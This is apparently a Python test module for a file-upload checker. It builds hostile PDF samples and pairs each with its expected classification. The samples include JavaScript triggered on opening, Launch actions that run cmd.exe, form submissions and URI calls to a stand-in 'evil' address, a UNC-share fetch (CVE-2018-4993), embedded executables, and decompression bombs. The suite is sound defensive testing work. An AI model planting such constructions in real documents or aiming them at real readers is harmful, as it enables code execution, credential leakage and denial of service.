"""PDFs that act, fetch, carry something, or never end."""

from __future__ import annotations

import io
import zlib
from collections.abc import Iterator

import pikepdf

from tests.hostile.case import Case
from tests.hostile.packages import packed
from tests.samples import pdf

PDF = "application/pdf"
EVIL = b"http://127.0.0.1:8999/evil"
ALERT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (entries, len(data), data)


def annotated(annotation: bytes, **more: bytes) -> bytes:
    """Return a PDF whose page has the annotation."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[4 0 R]>>"
    return pdf(objects={3: page, 4: b"<</Type/Annot/Rect[0 0 200 200]%s>>" % annotation})


def locked(**passwords: str) -> bytes:
    """Return an encrypted PDF."""
    written = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(written, encryption=pikepdf.Encryption(owner="owner", **passwords))
    return written.getvalue()


def in_object_stream() -> bytes:
    """Return a PDF whose script stands in a compressed stream of objects, where a search of its bytes does not find it."""
    written = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(catalogue=b"/OpenAction 4 0 R", objects={4: ALERT}))) as document:
        document.save(written, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in written.getvalue()
    return written.getvalue()


def cut(content: bytes, text: bytes, by: bytes) -> bytes:
    assert text in content
    return content.replace(text, by)


def cases() -> Iterator[Case]:
    plain = pdf()
    yield Case("pdf", "a.pdf", plain, PDF)
    yield Case("html as pdf", "a.pdf", b"<html><script>alert(1)</script>", "content")
    yield Case("html before a pdf", "a.pdf", b"<script>alert(1)</script>\n" + plain, "content")
    yield Case("a pdf as xfa in xdp", "a.pdf", b"<?xml version='1.0'?><xdp/>", "content")

    # ends
    yield Case("html behind a pdf", "a.pdf", plain + b"<script>alert(1)</script>", "trailing")
    yield Case("a zip behind a pdf", "a.pdf", plain + packed({"a.txt": b"a"}), "trailing")
    archive = packed({"a.txt": b"a"})
    yield Case(
        "a zip whose comment is the end of a pdf",
        "a.pdf",
        plain + archive[:-2] + b"\x06\0%%EOF\n",
        "trailing",
    )
    yield Case("a pdf with white space behind it", "a.pdf", plain + b"\r\n" * 500, PDF)
    yield Case("only the header of a pdf", "a.pdf", b"%PDF-1.7\n", "cut_short")
    yield Case("only the letters", "a.pdf", b"%PDF-", "cut_short")
    yield Case("a pdf cut in half", "a.pdf", plain[: len(plain) // 2], "cut_short")
    yield Case("a header and an end", "a.pdf", b"%PDF-1.7\n%%EOF\n", "damaged")
    yield Case("a pdf of noise", "a.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 400 + b"\n%%EOF\n", "damaged")

    # scripts
    yield Case(
        "a script on opening", "a.pdf", pdf(catalogue=b"/OpenAction 4 0 R", objects={4: ALERT}), "script"
    )
    yield Case("a script on opening, directly", "a.pdf", pdf(catalogue=b"/OpenAction" + ALERT), "script")
    yield Case(
        "a script on opening, in a list",
        "a.pdf",
        pdf(catalogue=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[%s]>>" % ALERT),
        "script",
    )
    yield Case(
        "a script by its name tree",
        "a.pdf",
        pdf(catalogue=b"/Names<</JavaScript<</Names[(a)4 0 R]>>>>", objects={4: ALERT}),
        "script",
    )
    yield Case(
        "a script spelled with hex",
        "a.pdf",
        pdf(catalogue=b"/OpenAction<</#53/#4aavaScript/J#53(alert)>>"),
        "script",
    )
    yield Case("a script in a stream of objects", "a.pdf", in_object_stream(), "script")
    yield Case("a script of a link", "a.pdf", annotated(b"/Subtype/Link/A" + ALERT), "script")
    yield Case(
        "a script of a field", "a.pdf", annotated(b"/Subtype/Widget/FT/Tx/AA<</K%s>>" % ALERT), "script"
    )
    yield Case(
        "a script when a page is opened",
        "a.pdf",
        pdf(objects={3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O%s>>>>" % ALERT}),
        "script",
    )
    yield Case(
        "a script behind a sound",
        "a.pdf",
        annotated(b"/Subtype/Link/A<</S/URI/URI(http://a)/Next%s>>" % ALERT),
        "script",
    )
    yield Case(
        "a script in a stream",
        "a.pdf",
        pdf(catalogue=b"/OpenAction<</S/JavaScript/JS 4 0 R>>", objects={4: stream(b"app.alert(1)")}),
        "script",
    )
    yield Case("a script that nobody names", "a.pdf", pdf(objects={9: ALERT}), "script")

    # actions
    launch = b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"
    yield Case("a program on opening", "a.pdf", pdf(catalogue=b"/OpenAction" + launch), "launch")
    yield Case("a program of a link", "a.pdf", annotated(b"/Subtype/Link/A" + launch), "launch")
    yield Case(
        "an address on opening", "a.pdf", pdf(catalogue=b"/OpenAction<</S/URI/URI(%s)>>" % EVIL), "acts"
    )
    yield Case(
        "an address when a page is opened",
        "a.pdf",
        pdf(objects={3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/URI/URI(%s)>>>>>>" % EVIL}),
        "acts",
    )
    yield Case(
        "a share on opening (CVE-2018-4993)",
        "a.pdf",
        pdf(
            objects={
                3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/GoToE/F(\\\\\\\\host\\\\share)/D[0/Fit]>>>>>>"
            }
        ),
        "acts",
    )
    yield Case(
        "another file on opening",
        "a.pdf",
        pdf(catalogue=b"/OpenAction<</S/GoToR/F(\\\\\\\\host\\\\a.pdf)/D[0/Fit]>>"),
        "acts",
    )
    yield Case(
        "actions that follow each other for ever",
        "a.pdf",
        pdf(catalogue=b"/OpenAction 4 0 R", objects={4: b"<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>"}),
        "damaged",
    )
    yield Case(
        "a form that is sent", "a.pdf", annotated(b"/Subtype/Widget/A<</S/SubmitForm/F(%s)>>" % EVIL), "acts"
    )
    yield Case(
        "data that are imported", "a.pdf", annotated(b"/Subtype/Widget/A<</S/ImportData/F(a.fdf)>>"), "acts"
    )
    yield Case(
        "XFA",
        "a.pdf",
        pdf(catalogue=b"/AcroForm<</Fields[]/XFA 4 0 R>>", objects={4: stream(b"<xdp/>")}),
        "acts",
    )
    yield Case("a film", "a.pdf", annotated(b"/Subtype/RichMedia"), "acts")
    yield Case("a body in three dimensions", "a.pdf", annotated(b"/Subtype/3D"), "acts")
    yield Case("a sound", "a.pdf", annotated(b"/Subtype/Sound"), "acts")
    yield Case("a rendition", "a.pdf", annotated(b"/Subtype/Link/A<</S/Rendition>>"), "acts")
    yield Case(
        "an address that is clicked",
        "a.pdf",
        annotated(b"/Subtype/Link/A<</S/URI/URI(https://example.org/)>>"),
        PDF,
    )
    yield Case("a page that is turned to on opening", "a.pdf", pdf(catalogue=b"/OpenAction[3 0 R/Fit]"), PDF)

    # what is carried or fetched
    file = b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>"
    held = {4: file, 5: stream(b"MZ", b"/Type/EmbeddedFile")}
    yield Case(
        "an embedded program",
        "a.pdf",
        pdf(catalogue=b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>", objects=held),
        "embedded",
    )
    yield Case("an attached file", "a.pdf", annotated(b"/Subtype/FileAttachment/FS<</F(a.exe)>>"), "embedded")
    yield Case("an associated file", "a.pdf", pdf(catalogue=b"/AF[4 0 R]", objects=held), "embedded")
    yield Case(
        "a stream that is elsewhere", "a.pdf", pdf(objects={4: stream(b"", b"/F(%s)" % EVIL)}), "fetches"
    )
    yield Case(
        "a page of another file",
        "a.pdf",
        pdf(objects={4: stream(b"", b"/Subtype/Form/BBox[0 0 1 1]/Ref<</F(a.pdf)/Page 0>>")}),
        "fetches",
    )
    yield Case("a pdf with a password", "a.pdf", locked(user="secret"), "encrypted")
    yield Case("a pdf that may not be printed", "a.pdf", locked(user=""), "encrypted")

    # what never ends
    yield Case(
        "pages that are their own parents",
        "a.pdf",
        pdf(objects={2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}),
        "damaged",
    )
    yield Case("no pages", "a.pdf", pdf(objects={2: b"<</Type/Pages/Kids[]/Count 0>>"}), "damaged")
    yield Case("pages that are none", "a.pdf", pdf(objects={2: b"(pages)"}), "damaged")
    kids = b"3 0 R " * 6_000
    yield Case(
        "one page 6,000 times",
        "a.pdf",
        pdf(objects={2: b"<</Type/Pages/Count 6000/Kids[%s]>>" % kids}),
        "pages",
    )
    yield Case("a catalogue that is its own", "a.pdf", pdf(objects={1: b"1 0 R"}), "damaged")
    yield Case("brackets 100,000 deep", "a.pdf", pdf(objects={4: b"[" * 100_000 + b"]" * 100_000}), "damaged")
    yield Case("dictionaries 300 deep", "a.pdf", pdf(objects={4: b"<</A" * 300 + b"<<>>" + b">>" * 300}), PDF)
    yield Case("a table of 2^31 objects", "a.pdf", cut(plain, b"/Size 4", b"/Size 2147483647"), PDF)
    yield Case(
        "an object of the number 2^31", "a.pdf", cut(plain, b"3 0 obj", b"2147483646 0 obj"), "damaged"
    )
    yield Case("a table at a wrong place", "a.pdf", cut(plain, b"startxref\n", b"startxref\n9"), PDF)
    yield Case(
        "a table that names itself as the one before",
        "a.pdf",
        cut(plain, b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % plain.index(b"xref\n0")),
        PDF,
    )
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R>>"
    bomb = zlib.compress(zlib.compress(b"\0" * 50_000_000, 1), 9)
    packed_twice = stream(bomb, b"/Filter[/FlateDecode/FlateDecode]")
    yield Case("contents packed twice", "a.pdf", pdf(objects={3: page, 4: packed_twice}), PDF)
    table = stream(
        zlib.compress(b"\0" * 100_000_000, 1),
        b"/Type/XRef/Filter/FlateDecode/W[1 2 1]/Size 50000000/Root 1 0 R",
    )
    huge = pdf(objects={4: table})
    yield Case(
        "a packed table of 50,000,000 objects",
        "a.pdf",
        huge[: huge.index(b"xref\n0")] + b"startxref\n%d\n%%%%EOF\n" % huge.index(b"4 0 obj"),
        PDF,
    )
    objects = stream(
        zlib.compress(b"1 0 " * 5_000_000, 1), b"/Type/ObjStm/N 5000000/First 20000000/Filter/FlateDecode"
    )
    yield Case("a stream of 5,000,000 objects", "a.pdf", pdf(objects={4: objects}), PDF)
    yield Case("200,000 objects", "a.pdf", pdf(objects=dict.fromkeys(range(4, 200000), b"<<>>")), PDF)
